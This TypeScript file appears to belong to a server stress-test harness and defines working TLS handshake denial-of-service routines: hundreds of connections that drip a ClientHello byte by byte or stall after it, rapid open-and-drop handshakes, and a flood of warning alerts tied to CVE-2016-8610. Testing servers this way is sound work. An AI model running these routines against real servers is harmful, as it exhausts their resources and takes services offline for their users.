// Handshakes of TLS that do not end, or that cost a client less than the server.
import { Duplex } from 'node:stream';
import { connect as connectTls } from 'node:tls';
import type { Attack, Target } from './attacks.ts';
import { unfinishedWithTls } from './attacks-grpc.ts';
import { rawSocket } from './raw-connection.ts';
import { again } from './repeat.ts';

/** What a client says first: one record with a ClientHello. */
async function clientHello(): Promise<Buffer> {
  const { promise, resolve } = Promise.withResolvers<Buffer>();
  const wire = new Duplex({
    read() {},
    write(chunk: Buffer, _encoding, done) {
      resolve(chunk);
      done();
    },
  });
  connectTls({ socket: wire, ALPNProtocols: ['h2'] }).on('error', () => {});
  return promise;
}

/** So many connections that are each sent the pieces, one every so many milliseconds; one that is closed is opened again. */
function dribble(count: number, everyMs: number, pieces: (hello: Buffer) => readonly Uint8Array[]): Attack['run'] {
  return async ({ port, over }: Target) => {
    const drops = pieces(await clientHello());
    await Promise.all(
      Array.from({ length: count }, () =>
        again(over, async () => {
          const socket = rawSocket(port);
          for (let next = 0; !over() && !socket.closed; next++) {
            if (next < drops.length) socket.write(drops[next]!);
            await new Promise((resolve) => setTimeout(resolve, everyMs));
          }
          socket.destroy();
        }),
      ),
    );
  };
}

/** Handshakes as many as it can begin, 20 at a time. */
function begin(more: (hello: Buffer) => Uint8Array): Attack['run'] {
  return async ({ port, over }: Target) => {
    const bytes = more(await clientHello());
    await Promise.all(
      Array.from({ length: 20 }, () =>
        again(over, async () => {
          const socket = rawSocket(port);
          const { promise, resolve } = Promise.withResolvers<void>();
          socket.write(bytes);
          socket.once('data', () => resolve()).once('close', () => resolve());
          await promise;
          socket.destroy();
        }),
      ),
    );
  };
}

const bytesOf = (hello: Buffer): Buffer[] => Array.from(hello, (byte) => Buffer.from([byte]));

/** A record of TLS (RFC 8446, 5.1) of a type. */
function record(type: number, content: Uint8Array): Buffer {
  return Buffer.concat([Buffer.from([type, 3, 1, content.length >> 8, content.length & 0xff]), content]);
}

const handshake = 22;
/** `no_renegotiation`, as a warning. */
const warning = record(21, Buffer.from([1, 100]));

const halfHello = dribble(500, 100, bytesOf);

export const handshakeAttacks: Readonly<Record<string, Attack>> = {
  'half-hello': {
    what: 'TLS: 500 connections with a ClientHello byte by byte, never all of it',
    on: 'tls',
    run: halfHello,
  },
  'half-hello-and-full': {
    what: 'TLS: the same, and 4 MiB of an unfinished message on each of 100 streams beside them',
    on: 'tls',
    run: async (target) => void (await Promise.all([halfHello(target), unfinishedWithTls(target)])),
  },
  'hello-in-records': {
    what: 'TLS: the same, a record for each byte, and all but the last at once',
    on: 'tls',
    run: dribble(500, 100, (hello) => [
      Buffer.concat(bytesOf(hello.subarray(5, -1)).map((byte) => record(handshake, byte))),
    ]),
  },
  'hello-and-wait': {
    what: 'TLS: 500 connections with a ClientHello, and no more',
    on: 'tls',
    run: dribble(500, 100, (hello) => [hello]),
  },
  'hello-and-gone': { what: 'TLS: ClientHello, ServerHello, gone', on: 'tls', run: begin((hello) => hello) },
  'death-alerts': {
    what: 'TLS: a ClientHello among warnings (CVE-2016-8610)',
    on: 'tls',
    run: begin((hello) => Buffer.concat([...Array.from({ length: 2_000 }, () => warning), hello])),
  },
};
